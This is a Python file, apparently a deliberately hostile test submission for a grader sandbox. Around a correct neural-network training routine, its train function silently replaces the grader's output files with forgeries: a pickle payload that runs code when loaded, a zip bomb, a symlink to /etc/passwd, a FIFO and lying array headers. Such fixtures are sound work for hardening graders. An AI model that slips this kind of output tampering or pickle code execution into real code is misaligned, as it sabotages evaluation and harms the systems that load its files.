# Hostile submission: forges the grader's output files (submissions/hostile/README.md).
# On its first call, `train` replaces the six newest output files in ../outputs
# (the answers of the probes run just before it) by forgeries, newest first:
# a header claiming 80 GB; a 128 MB member deflated to a few hundred KB (a zip
# bomb); an object array whose unpickling would create {UNPICKLED_MARKER} in
# the grader's process; a symlink to /etc/passwd; a FIFO (a naive reader blocks
# forever); a header whose size lies. Everything else is the template's correct
# code: the probes it forged must fail, the others pass as they would anyway.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os
import zipfile

import numpy as np

UNPICKLED_MARKER = "/tmp/hostile-forged-npz-was-unpickled"
_FORGED = []  # the forged file names, once done


class Payload:
    """Unpickling this opens (creates) UNPICKLED_MARKER in whichever process does it."""

    def __reduce__(self):
        return (open, (UNPICKLED_MARKER, "w"))


def _header(fh, shape):
    np.lib.format.write_array_header_1_0(
        fh, {"descr": "<f8", "fortran_order": False, "shape": tuple(shape)}
    )


def _claim_80_gb(path, shapes):
    with zipfile.ZipFile(path, "w") as z:
        for name in shapes:
            with z.open(name + ".npy", "w") as fh:
                _header(fh, (10**10,))  # 80 GB of float64
                fh.write(b"\0" * 64)


def _zip_bomb(path, shapes):
    block = b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, shape in shapes.items():
            with z.open(name + ".npy", "w", force_zip64=True) as fh:
                _header(fh, shape)
                for _ in range(128):  # 128 MB inflated, a few hundred KB on disk
                    fh.write(block)


def _object_array(path, shapes):
    with zipfile.ZipFile(path, "w") as z:
        for name in shapes:
            with z.open(name + ".npy", "w") as fh:
                np.lib.format.write_array(fh, np.array([Payload(), 1.0], dtype=object))


def _symlink(path, shapes):
    os.symlink("/etc/passwd", path)


def _fifo(path, shapes):
    os.mkfifo(path)


def _lying_size(path, shapes):
    with zipfile.ZipFile(path, "w") as z:
        for name, shape in shapes.items():
            with z.open(name + ".npy", "w") as fh:
                _header(fh, shape)  # the right shape, but only 8 bytes of data
                fh.write(b"\0" * 8)


FORGERS = (_claim_80_gb, _zip_bomb, _object_array, _symlink, _fifo, _lying_size)


def _forge_outputs(outdir):
    """Replace the newest output files by the forgeries, newest first; their names."""
    files = [os.path.join(outdir, f) for f in os.listdir(outdir) if f.endswith(".npz")]
    files.sort(key=lambda f: (os.stat(f).st_mtime_ns, f), reverse=True)
    for path, forge in zip(files, FORGERS):
        with np.load(path) as z:
            shapes = {k: z[k].shape for k in z.files}
        os.remove(path)
        forge(path, shapes)
    print(f"forged_npz: forged {[os.path.basename(f) for f in files[: len(FORGERS)]]}")
    return files


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """J = sum((Y - A_out)^2) + C/2 * sum of ||W_l||^2."""
    L = len(params) // 2
    A_out = forward(params, X)[-1]
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return np.sum((Y - A_out) ** 2) + C / 2 * penalty


def gradients(params, X, Y, C):
    """dJ/dW_l and dJ/db_l by back-propagation: {"dW1": ..., "db1": ..., ...}."""
    L = len(params) // 2
    A = forward(params, X)
    V = -2 * (Y - A[L]) * A[L] * (1 - A[L])  # sensitivity of the output layer
    grads = {}
    for l in range(L, 0, -1):
        grads[f"dW{l}"] = V @ A[l - 1].T + C * params[f"W{l}"]
        grads[f"db{l}"] = np.sum(V, axis=1).reshape(-1, 1)
        if l > 1:
            V = A[l - 1] * (1 - A[l - 1]) * (params[f"W{l}"].T @ V)
    return grads


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,)); forges the outputs on the first call."""
    if not _FORGED:
        _FORGED.append(_forge_outputs("../outputs"))
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
